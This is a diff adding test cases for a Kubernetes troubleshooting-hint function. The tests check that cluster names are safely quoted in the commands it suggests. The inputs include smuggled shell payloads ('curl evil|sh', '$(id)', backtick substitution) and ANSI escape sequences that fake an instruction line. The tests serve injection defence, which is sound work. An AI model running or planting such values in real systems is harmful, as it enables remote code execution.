@@ -59,6 +59,30 @@ describe('reachTrouble', () => {
     ],
     ['kind that is stopped', REFUSED, 'kind-dev', /\nStart the cluster: docker start dev-control-plane$/],
     [
+      'a kind cluster whose name is a command',
+      REFUSED,
+      'kind-x; curl evil|sh #',
+      /\nStart the cluster: docker start 'x; curl evil\|sh #-control-plane'$/,
+    ],
+    [
+      'a k3d cluster whose name is a command',
+      REFUSED,
+      'k3d-$(id)',
+      /\nStart the cluster: k3d cluster start '\$\(id\)'$/,
+    ],
+    [
+      'a recreated kind cluster whose name is a command',
+      `${X509} signed by unknown authority`,
+      'kind-`id`',
+      /: kind export kubeconfig --name '`id`'$/,
+    ],
+    [
+      'a name that moves the cursor and ends its line',
+      REFUSED,
+      'a\u001b[2Ab\nRun this: id',
+      /^The API server of context a\\x1b\[2Ab\\nRun this: id cannot be reached/,
+    ],
+    [
       'a network that cannot be reached',
       'dial tcp: lookup api.example.com on 10.0.0.2:53: no such host',
       'prod',
